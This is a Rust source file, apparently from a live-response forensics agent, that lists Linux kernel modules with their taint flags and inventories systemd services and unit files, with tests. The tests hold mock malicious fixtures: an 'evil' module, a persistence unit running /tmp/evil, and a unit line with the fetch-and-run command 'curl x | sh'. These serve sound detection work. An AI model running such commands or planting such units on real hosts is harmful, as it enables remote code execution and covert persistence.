//! drivers (kernel modules) and services (systemd units), plus the systemd unit-file
//! reading that scheduledtasks and persistence share.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use liveresponse_api::command::Invocation;
use serde::Serialize;

use super::hostfs::{HostFs, PROC_CAP, join, open_regular, read_bounded};
use super::to_records;
use crate::provider::{CommandResult, ExecContext, ExecError};

// ---------------------------------------------------------------- drivers

#[derive(Serialize, Debug)]
#[serde(rename_all = "camelCase")]
pub(super) struct ModuleRecord {
    name: String,
    size: u64,
    /// Reference count; none when the kernel cannot unload modules.
    used_by: Option<u64>,
    used_by_modules: Vec<String>,
    /// Live, Loading or Unloading.
    state: String,
    /// Taint flags such as O (out of tree) or E (unsigned): the first thing to look at
    /// for a rootkit.
    taint: Option<String>,
}

pub(super) fn drivers(ctx: &ExecContext) -> Result<CommandResult, ExecError> {
    drivers_from(ctx, Path::new("/proc/modules"))
}

fn drivers_from(ctx: &ExecContext, path: &Path) -> Result<CommandResult, ExecError> {
    let text = read_proc(ctx, path).map_err(|e| {
        ExecError::Failed(format!(
            "cannot list kernel modules: {} is not readable ({e}); the kernel may be built without loadable module support",
            path.display()
        ))
    })?;
    ctx.check()?;
    let mut rows: Vec<ModuleRecord> = text.lines().filter_map(parse_module).collect();
    rows.sort_by(|a, b| a.name.cmp(&b.name));
    Ok(CommandResult::with_records(to_records(&rows)?))
}

/// `name size refcount used,by, state address [(taint)]`.
pub(super) fn parse_module(line: &str) -> Option<ModuleRecord> {
    let fields: Vec<&str> = line.split_whitespace().collect();
    if fields.len() < 5 {
        return None;
    }
    Some(ModuleRecord {
        name: fields[0].to_owned(),
        size: fields[1].parse().ok()?,
        used_by: fields[2].parse().ok(),
        used_by_modules: fields[3]
            .split(',')
            .filter(|m| !m.is_empty() && *m != "-")
            .map(str::to_owned)
            .collect(),
        state: fields[4].to_owned(),
        taint: fields
            .get(6)
            .map(|t| t.trim_matches(|c| c == '(' || c == ')').to_owned()),
    })
}

// ---------------------------------------------------------------- systemd unit files

/// Where systemd looks for system units, highest precedence first.
pub(crate) const SYSTEM_UNIT_DIRS: &[&str] = &[
    "/etc/systemd/system",
    "/run/systemd/system",
    "/usr/local/lib/systemd/system",
    "/lib/systemd/system",
    "/usr/lib/systemd/system",
];

/// A parsed unit file.
#[derive(Debug, Clone, Default)]
pub(crate) struct Unit {
    /// (section, key, value) in file order.
    entries: Vec<(String, String, String)>,
}

impl Unit {
    pub(crate) fn parse(text: &str) -> Unit {
        let mut entries = Vec::new();
        let mut section = String::new();
        let mut pending = String::new();
        for raw in text.lines() {
            // A trailing backslash continues the line, as in systemd, which skips comment
            // lines inside a continuation too: taking them as part of the value would let a
            // unit show `ExecStart=/bin/sh -c #` while systemd runs the line after the comment.
            let line = raw.trim();
            if line.starts_with('#') || line.starts_with(';') {
                continue;
            }
            if let Some(head) = line.strip_suffix('\\') {
                pending.push_str(head);
                pending.push(' ');
                continue;
            }
            pending.push_str(line);
            let full = std::mem::take(&mut pending);
            let full = full.trim();
            if full.starts_with('[') && full.ends_with(']') {
                section = full[1..full.len() - 1].trim().to_owned();
            } else if let Some((key, value)) = full.split_once('=') {
                entries.push((
                    section.clone(),
                    key.trim().to_owned(),
                    value.trim().to_owned(),
                ));
            }
        }
        Unit { entries }
    }

    /// The last value of a key (later assignments win), empty assignments reset.
    pub(crate) fn get(&self, section: &str, key: &str) -> Option<&str> {
        self.get_all(section, key).last().copied()
    }

    /// Every value of a list-like key (ExecStart=, OnCalendar=), honouring resets by an
    /// empty assignment.
    pub(crate) fn get_all(&self, section: &str, key: &str) -> Vec<&str> {
        let mut values = Vec::new();
        for (s, k, v) in &self.entries {
            if s == section && k == key {
                if v.is_empty() {
                    values.clear();
                } else {
                    values.push(v.as_str());
                }
            }
        }
        values
    }

    pub(crate) fn has_section(&self, section: &str) -> bool {
        self.entries.iter().any(|(s, _, _)| s == section)
    }

    /// The commands a service runs: ExecStart= values, joined when there are several.
    pub(crate) fn exec_start(&self) -> Option<String> {
        let all = self.get_all("Service", "ExecStart");
        (!all.is_empty()).then(|| all.join("; "))
    }
}

/// The system unit directories that exist, canonical and each once: with a merged /usr,
/// /lib/systemd/system is /usr/lib/systemd/system by another name.
pub(crate) fn unit_dirs(hfs: &HostFs) -> Vec<String> {
    let mut dirs: Vec<String> = Vec::new();
    for dir in SYSTEM_UNIT_DIRS {
        if let Ok(canonical) = hfs.canonical(dir)
            && !dirs.contains(&canonical)
        {
            dirs.push(canonical);
        }
    }
    dirs
}

/// The unit files of one kind (suffix ".service", ".timer") in the system directories:
/// name -> device path of the file that wins (the first directory has precedence).
pub(crate) fn unit_files(hfs: &HostFs, suffix: &str) -> BTreeMap<String, String> {
    let mut found = BTreeMap::new();
    for dir in unit_dirs(hfs) {
        for name in hfs.list(&dir) {
            if name.ends_with(suffix) {
                found
                    .entry(name.clone())
                    .or_insert_with(|| join(&dir, &name));
            }
        }
    }
    found
}

/// The file of a unit by name, trying the template (`foo@.service`) of an instance
/// (`foo@bar.service`).
pub(crate) fn find_unit(hfs: &HostFs, name: &str) -> Option<String> {
    let template = name.split_once('@').and_then(|(prefix, rest)| {
        rest.rsplit_once('.')
            .map(|(_, ext)| format!("{prefix}@.{ext}"))
    });
    let dirs = unit_dirs(hfs);
    for candidate in std::iter::once(name.to_owned()).chain(template) {
        for dir in &dirs {
            let path = join(dir, &candidate);
            if hfs.exists(&path) || hfs.link_target(&path).is_some() {
                return Some(path);
            }
        }
    }
    None
}

/// Reads a kernel pseudo file of the agent's own /proc, bounded: its size says 0, so only
/// the cap keeps a misbehaving file from filling memory.
pub(crate) fn read_proc(ctx: &ExecContext, path: &Path) -> Result<String, ExecError> {
    let bytes = read_proc_bytes(ctx, path, PROC_CAP)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// [`read_proc`] with its own cap, as bytes: for tables that grow with the machine.
pub(crate) fn read_proc_bytes(
    ctx: &ExecContext,
    path: &Path,
    cap: u64,
) -> Result<Vec<u8>, ExecError> {
    let device = path.to_string_lossy();
    let (mut file, meta) =
        open_regular(Path::new("/"), &device, false).map_err(|e| e.into_exec(&device))?;
    read_bounded(&mut file, &meta, cap, &device, Some(ctx)).map_err(|e| e.into_exec(&device))
}

/// Reads a unit; a unit masked by a link to /dev/null has no content.
pub(crate) fn load_unit(hfs: &HostFs, path: &str) -> Unit {
    match hfs.read_to_string(path) {
        Ok(text) => Unit::parse(&text),
        Err(_) => Unit::default(),
    }
}

pub(crate) fn is_masked(hfs: &HostFs, path: &str) -> bool {
    hfs.link_target(path).is_some_and(|t| t == "/dev/null")
}

/// A unit enabled by a link in a `.wants` or `.requires` directory.
#[derive(Debug, Clone)]
pub(crate) struct EnabledLink {
    /// The unit's name as linked (an instance for templates).
    pub unit: String,
    /// Device path of the link.
    pub link: String,
    /// The target or unit that wants it (`multi-user.target`).
    pub wanted_by: String,
}

/// Links in `<dir>/*.wants/` and `<dir>/*.requires/`: how `systemctl enable` starts a
/// unit at boot, and where an attacker who skips systemctl drops one.
pub(crate) fn enabled_links(hfs: &HostFs, dir: &str) -> Vec<EnabledLink> {
    let mut links = Vec::new();
    for sub in hfs.list(dir) {
        let Some(wanted_by) = sub
            .strip_suffix(".wants")
            .or_else(|| sub.strip_suffix(".requires"))
        else {
            continue;
        };
        let sub_dir = join(dir, &sub);
        if !hfs.is_dir(&sub_dir) {
            continue;
        }
        for unit in hfs.list(&sub_dir) {
            links.push(EnabledLink {
                link: join(&sub_dir, &unit),
                unit,
                wanted_by: wanted_by.to_owned(),
            });
        }
    }
    links
}

/// The unit file an enabled link leads to: its target when it is a link, else the unit
/// found by name.
pub(crate) fn unit_of_link(hfs: &HostFs, link: &EnabledLink) -> Option<String> {
    match hfs.link_target(&link.link) {
        Some(target) if hfs.exists(&target) => hfs.canonical(&target).ok(),
        _ if hfs.exists(&link.link) && hfs.link_target(&link.link).is_none() => {
            Some(link.link.clone())
        }
        _ => find_unit(hfs, &link.unit),
    }
}

// ---------------------------------------------------------------- services

#[derive(Serialize, Debug, Clone)]
#[serde(rename_all = "camelCase")]
struct ServiceRecord {
    name: String,
    /// Active state (active, inactive, failed...), or "unknown" without a running
    /// systemd to ask.
    state: String,
    sub_state: Option<String>,
    /// loaded, not-found, masked, not-loaded (installed but not in memory).
    load: Option<String>,
    /// enabled, disabled, static or masked, from the unit files.
    enabled: Option<String>,
    description: Option<String>,
    unit_file: Option<String>,
    command: Option<String>,
    user: Option<String>,
}

pub(super) fn services(ctx: &ExecContext, inv: &Invocation) -> Result<CommandResult, ExecError> {
    let hfs = HostFs::of(ctx);
    let files = unit_files(&hfs, ".service");
    let enabled: BTreeSet<String> = enabled_units(&hfs);
    let systemd_running = hfs.is_dir("/run/systemd/system");
    let mut warnings = Vec::new();

    let live = if systemd_running {
        match list_live_units(ctx) {
            Ok(units) => Some(units),
            Err(e @ (ExecError::Cancelled | ExecError::TimedOut)) => return Err(e),
            Err(e) => {
                warnings.push(format!(
                    "could not ask systemd for the state of services ({e}); showing installed unit files, state unknown"
                ));
                None
            }
        }
    } else {
        None
    };
    if live.is_none() && files.is_empty() {
        return Err(ExecError::Failed(
            "no service manager on this device: systemd is not running (no /run/systemd/system) and there are no unit files in /etc/systemd/system, /lib/systemd/system or /usr/lib/systemd/system".to_owned(),
        ));
    }
    if live.is_none() && !systemd_running {
        warnings.push(
            "systemd is not running on this device (no /run/systemd/system): showing installed unit files; their state is unknown".to_owned(),
        );
    }

    let describe = |name: &str, path: Option<&String>| {
        let unit = path.map(|p| load_unit(&hfs, p));
        let masked = path.is_some_and(|p| is_masked(&hfs, p));
        let state = if masked {
            "masked"
        } else if enabled.contains(name) {
            "enabled"
        } else if unit.as_ref().is_some_and(|u| !u.has_section("Install")) {
            "static"
        } else {
            "disabled"
        };
        (unit, path.is_some().then(|| state.to_owned()), masked)
    };

    let mut rows = Vec::new();
    let mut seen = BTreeSet::new();
    if let Some(live) = &live {
        for u in live {
            let path = files
                .get(&u.name)
                .cloned()
                .or_else(|| find_unit(&hfs, &u.name));
            let (unit, enabled_state, _) = describe(&u.name, path.as_ref());
            seen.insert(u.name.clone());
            rows.push(ServiceRecord {
                name: u.name.clone(),
                state: u.active.clone(),
                sub_state: Some(u.sub.clone()),
                load: Some(u.load.clone()),
                enabled: enabled_state,
                description: Some(u.description.clone()).filter(|d| !d.is_empty()),
                command: unit.as_ref().and_then(Unit::exec_start),
                user: unit
                    .as_ref()
                    .and_then(|u| u.get("Service", "User").map(str::to_owned)),
                unit_file: path,
            });
        }
    }
    for (name, path) in &files {
        // Templates are not services until instantiated.
        if seen.contains(name) || name.contains("@.") {
            continue;
        }
        let (unit, enabled_state, masked) = describe(name, Some(path));
        let (state, sub_state, load) = if live.is_some() {
            // systemctl lists every unit in memory; one it does not know is not running.
            (
                "inactive",
                Some("dead".to_owned()),
                Some(if masked { "masked" } else { "not-loaded" }.to_owned()),
            )
        } else {
            ("unknown", None, masked.then(|| "masked".to_owned()))
        };
        rows.push(ServiceRecord {
            name: name.clone(),
            state: state.to_owned(),
            sub_state,
            load,
            enabled: enabled_state,
            description: unit
                .as_ref()
                .and_then(|u| u.get("Unit", "Description").map(str::to_owned)),
            command: unit.as_ref().and_then(Unit::exec_start),
            user: unit
                .as_ref()
                .and_then(|u| u.get("Service", "User").map(str::to_owned)),
            unit_file: Some(path.clone()),
        });
    }

    if let Some(wanted) = inv.get("name") {
        let full = if wanted.contains('.') {
            wanted.to_owned()
        } else {
            format!("{wanted}.service")
        };
        rows.retain(|r| r.name.eq_ignore_ascii_case(&full));
        if rows.is_empty() {
            return Err(ExecError::NotFound(format!("no service named {wanted}")));
        }
    }
    rows.sort_by(|a, b| a.name.cmp(&b.name));
    let mut result = CommandResult::with_records(to_records(&rows)?);
    result.warnings = warnings;
    Ok(result)
}

/// Units enabled system-wide: linked from a .wants/.requires directory of
/// /etc/systemd/system (where `systemctl enable` writes).
fn enabled_units(hfs: &HostFs) -> BTreeSet<String> {
    enabled_links(hfs, "/etc/systemd/system")
        .into_iter()
        .map(|l| l.unit)
        .collect()
}

#[derive(Debug, Clone, PartialEq)]
pub(super) struct LiveUnit {
    pub(super) name: String,
    pub(super) load: String,
    pub(super) active: String,
    pub(super) sub: String,
    pub(super) description: String,
}

/// Asks the host's systemd. From a DaemonSet the host's systemctl runs chrooted into
/// `host_root`, where it finds the host's /run/systemd socket.
fn list_live_units(ctx: &ExecContext) -> Result<Vec<LiveUnit>, ExecError> {
    let args = [
        "list-units",
        "--type=service",
        "--all",
        "--no-legend",
        "--no-pager",
        "--plain",
        "--full",
    ];
    let mut command = if ctx.host_root == Path::new("/") {
        Command::new("systemctl")
    } else {
        let mut chroot = Command::new("chroot");
        chroot.arg(&ctx.host_root).arg("systemctl");
        chroot
    };
    command.args(args).env("SYSTEMD_COLORS", "0");
    let output = run_bounded(ctx, command, Duration::from_secs(30))?;
    Ok(parse_list_units(&output))
}

/// `UNIT LOAD ACTIVE SUB DESCRIPTION...`, one per line.
pub(super) fn parse_list_units(output: &str) -> Vec<LiveUnit> {
    output
        .lines()
        .filter_map(|line| {
            // Some versions mark failed units with a bullet even in --plain mode.
            let line = line
                .trim_start()
                .trim_start_matches(['●', '*'])
                .trim_start();
            let mut rest = line;
            let mut next = || {
                let trimmed = rest.trim_start();
                let end = trimmed.find(char::is_whitespace).unwrap_or(trimmed.len());
                let (word, tail) = trimmed.split_at(end);
                rest = tail;
                (!word.is_empty()).then(|| word.to_owned())
            };
            let name = next()?;
            let load = next()?;
            let active = next()?;
            let sub = next()?;
            Some(LiveUnit {
                name,
                load,
                active,
                sub,
                description: rest.trim().to_owned(),
            })
        })
        .collect()
}

/// Most bytes of a program's output kept: `systemctl list-units` of a large host is a few
/// MiB, and a host's binary run by chroot is not trusted to stop.
const OUTPUT_CAP: u64 = 16 << 20;

/// The first `cap` bytes of a pipe; the rest is read and dropped so that the program does
/// not stall on a full pipe. A cut output loses its tail, ending mid-line at worst.
fn read_kept(pipe: Option<impl Read>, cap: u64) -> Vec<u8> {
    let mut buf = Vec::new();
    if let Some(mut pipe) = pipe {
        let _ = (&mut pipe).take(cap).read_to_end(&mut buf);
        let _ = std::io::copy(&mut pipe, &mut std::io::sink());
    }
    buf
}

/// Runs a program to completion, reading its output as it goes (a full pipe would stall
/// it), and kills it on cancellation, deadline or `limit`.
pub(crate) fn run_bounded(
    ctx: &ExecContext,
    mut command: Command,
    limit: Duration,
) -> Result<String, ExecError> {
    let program = command.get_program().to_string_lossy().into_owned();
    let mut child = command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| ExecError::Failed(format!("cannot run {program}: {e}")))?;
    let stdout = child.stdout.take();
    let stderr = child.stderr.take();
    let out_reader = std::thread::spawn(move || read_kept(stdout, OUTPUT_CAP));
    let err_reader = std::thread::spawn(move || read_kept(stderr, 4096));
    let stop_at = Instant::now() + limit;
    let status = loop {
        match child.try_wait() {
            Ok(Some(status)) => break status,
            Ok(None) => {}
            Err(e) => {
                let _ = child.kill();
                let _ = child.wait();
                return Err(ExecError::Failed(format!("waiting for {program}: {e}")));
            }
        }
        let stop = match ctx.check() {
            Err(e) => Some(e),
            Ok(()) if Instant::now() >= stop_at => Some(ExecError::Failed(format!(
                "{program} did not answer within {} s",
                limit.as_secs()
            ))),
            Ok(()) => None,
        };
        if let Some(e) = stop {
            let _ = child.kill();
            let _ = child.wait();
            return Err(e);
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let out = out_reader.join().unwrap_or_default();
    let err = err_reader.join().unwrap_or_default();
    if !status.success() {
        let err = String::from_utf8_lossy(&err);
        return Err(ExecError::Failed(format!(
            "{program} failed ({status}): {}",
            err.trim()
        )));
    }
    Ok(String::from_utf8_lossy(&out).into_owned())
}

/// The unit a timer starts: Unit=, or the service of the same name.
pub(crate) fn timer_target(timer: &Unit, timer_name: &str) -> String {
    timer
        .get("Timer", "Unit")
        .map(str::to_owned)
        .unwrap_or_else(|| {
            let stem = timer_name.strip_suffix(".timer").unwrap_or(timer_name);
            format!("{stem}.service")
        })
}

/// A timer's schedule as `Key=value` pairs: OnCalendar, OnBootSec and the other triggers.
pub(crate) fn timer_schedule(timer: &Unit) -> String {
    const KEYS: &[&str] = &[
        "OnCalendar",
        "OnActiveSec",
        "OnBootSec",
        "OnStartupSec",
        "OnUnitActiveSec",
        "OnUnitInactiveSec",
    ];
    KEYS.iter()
        .flat_map(|key| {
            timer
                .get_all("Timer", key)
                .into_iter()
                .map(move |v| format!("{key}={v}"))
        })
        .collect::<Vec<_>>()
        .join("; ")
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;

    #[test]
    fn parses_proc_modules() {
        let dir = tempfile::tempdir().unwrap();
        let modules = dir.path().join("modules");
        std::fs::write(
            &modules,
            "nf_nat 61440 2 xt_MASQUERADE,nft_chain_nat, Live 0x0000000000000000\n\
             evil 16384 0 - Live 0xffffffffc0a00000 (OE)\n\
             garbage\n",
        )
        .unwrap();
        let ctx = ctx(dir.path());
        let result = drivers_from(&ctx, &modules).unwrap();
        assert_columns("drivers", &result);
        assert_eq!(result.records.len(), 2);
        assert_eq!(result.records[0]["name"], "evil");
        assert_eq!(result.records[0]["taint"], "OE");
        assert_eq!(result.records[1]["usedBy"], 2);
        assert_eq!(
            result.records[1]["usedByModules"],
            serde_json::json!(["xt_MASQUERADE", "nft_chain_nat"])
        );
        assert_eq!(result.records[1]["state"], "Live");
    }

    #[test]
    fn drivers_on_this_kernel() {
        let dir = tempfile::tempdir().unwrap();
        match run(&ctx(dir.path()), "drivers", &[]) {
            Ok(result) => {
                assert!(Path::new("/proc/modules").exists());
                assert_columns("drivers", &result);
                assert!(result.records.iter().all(|r| r["name"].is_string()));
            }
            Err(e) => {
                assert!(!Path::new("/proc/modules").exists(), "{e}");
                assert_eq!(e.reason(), "Failed");
                assert!(
                    e.to_string()
                        .starts_with("cannot list kernel modules: /proc/modules is not readable"),
                    "{e}"
                );
            }
        }
    }

    #[test]
    fn unit_parsing() {
        let unit = Unit::parse(
            "[Unit]\nDescription=Evil\n# c\n[Service]\nExecStart=/bin/a \\\n  --flag\nExecStart=\nExecStart=/tmp/evil\nUser=bob\n",
        );
        assert_eq!(unit.get("Unit", "Description"), Some("Evil"));
        assert_eq!(unit.exec_start().as_deref(), Some("/tmp/evil"));
        assert_eq!(unit.get("Service", "User"), Some("bob"));
        assert!(!unit.has_section("Install"));
    }

    /// Found by `fuzz_unit_files_known_values`: systemd.syntax(7) ignores a comment block
    /// after a line that ends in a backslash and continues with what follows it.
    #[test]
    fn comments_inside_a_continuation_are_skipped_as_systemd_does() {
        let unit = Unit::parse(
            "[Service]\nExecStart=/bin/sh -c \\\n# looks like the end\n; and this\n  'curl x | sh'\n",
        );
        assert_eq!(
            unit.exec_start().as_deref(),
            Some("/bin/sh -c  'curl x | sh'")
        );
    }

    #[test]
    fn parses_systemctl_list_units() {
        let units = parse_list_units(
            "ssh.service      loaded    active   running OpenBSD Secure Shell server\n\
             ● bad.service   not-found inactive dead    bad.service\n\n",
        );
        assert_eq!(units.len(), 2);
        assert_eq!(units[0].name, "ssh.service");
        assert_eq!(units[0].sub, "running");
        assert_eq!(units[0].description, "OpenBSD Secure Shell server");
        assert_eq!(units[1].name, "bad.service");
        assert_eq!(units[1].load, "not-found");
    }

    fn unit_tree() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(
            root,
            "/usr/lib/systemd/system/ssh.service",
            "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n",
        );
        write(
            root,
            "/usr/lib/systemd/system/static.service",
            "[Unit]\nDescription=Static\n[Service]\nExecStart=/bin/true\n",
        );
        write(
            root,
            "/usr/lib/systemd/system/getty@.service",
            "[Service]\nExecStart=/sbin/agetty\n",
        );
        write(
            root,
            "/etc/systemd/system/evil.service",
            "[Unit]\nDescription=Evil\n[Service]\nExecStart=/tmp/evil\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n",
        );
        std::fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants")).unwrap();
        std::os::unix::fs::symlink(
            "../evil.service",
            root.join("etc/systemd/system/multi-user.target.wants/evil.service"),
        )
        .unwrap();
        std::os::unix::fs::symlink(
            "/usr/lib/systemd/system/ssh.service",
            root.join("etc/systemd/system/multi-user.target.wants/ssh.service"),
        )
        .unwrap();
        std::os::unix::fs::symlink("/dev/null", root.join("etc/systemd/system/masked.service"))
            .unwrap();
        dir
    }

    #[test]
    fn services_from_unit_files_without_systemd() {
        let dir = unit_tree();
        let ctx = ctx(dir.path());
        let result = run(&ctx, "services", &[]).unwrap();
        assert_columns("services", &result);
        let names: Vec<&str> = result
            .records
            .iter()
            .map(|r| r["name"].as_str().unwrap())
            .collect();
        assert_eq!(
            names,
            vec![
                "evil.service",
                "masked.service",
                "ssh.service",
                "static.service"
            ]
        );
        let evil = &result.records[0];
        assert_eq!(evil["state"], "unknown");
        assert_eq!(evil["enabled"], "enabled");
        assert_eq!(evil["command"], "/tmp/evil");
        assert_eq!(evil["user"], "nobody");
        assert_eq!(evil["unitFile"], "/etc/systemd/system/evil.service");
        assert_eq!(evil["description"], "Evil");
        assert_eq!(result.records[1]["enabled"], "masked");
        assert_eq!(result.records[2]["enabled"], "enabled");
        assert_eq!(result.records[3]["enabled"], "static");
        assert!(
            result
                .warnings
                .iter()
                .any(|w| w.contains("systemd is not running"))
        );

        let one = run(&ctx, "services", &["ssh"]).unwrap();
        assert_eq!(one.records.len(), 1);
        assert_eq!(
            one.records[0]["unitFile"],
            "/usr/lib/systemd/system/ssh.service"
        );
        let err = run(&ctx, "services", &["nope"]).unwrap_err();
        assert_eq!(err.reason(), "NotFound");
    }

    #[test]
    fn services_without_any_service_manager_say_so() {
        let dir = tempfile::tempdir().unwrap();
        let err = run(&ctx(dir.path()), "services", &[]).unwrap_err();
        assert_eq!(err.reason(), "Failed");
        assert!(
            err.to_string()
                .starts_with("no service manager on this device"),
            "{err}"
        );
    }

    #[test]
    fn run_bounded_kills_on_cancel_and_reports_failures() {
        let dir = tempfile::tempdir().unwrap();
        let ctx = ctx(dir.path());
        let out = run_bounded(
            &ctx,
            {
                let mut c = Command::new("sh");
                c.args(["-c", "echo hello"]);
                c
            },
            Duration::from_secs(5),
        )
        .unwrap();
        assert_eq!(out.trim(), "hello");
        let err = run_bounded(
            &ctx,
            {
                let mut c = Command::new("sh");
                c.args(["-c", "echo broken >&2; exit 3"]);
                c
            },
            Duration::from_secs(5),
        )
        .unwrap_err();
        assert!(err.to_string().contains("broken"), "{err}");
        let started = Instant::now();
        let err = run_bounded(
            &ctx,
            {
                let mut c = Command::new("sleep");
                c.arg("30");
                c
            },
            Duration::from_millis(200),
        )
        .unwrap_err();
        assert!(err.to_string().contains("did not answer"), "{err}");
        assert!(started.elapsed() < Duration::from_secs(5));
    }
}
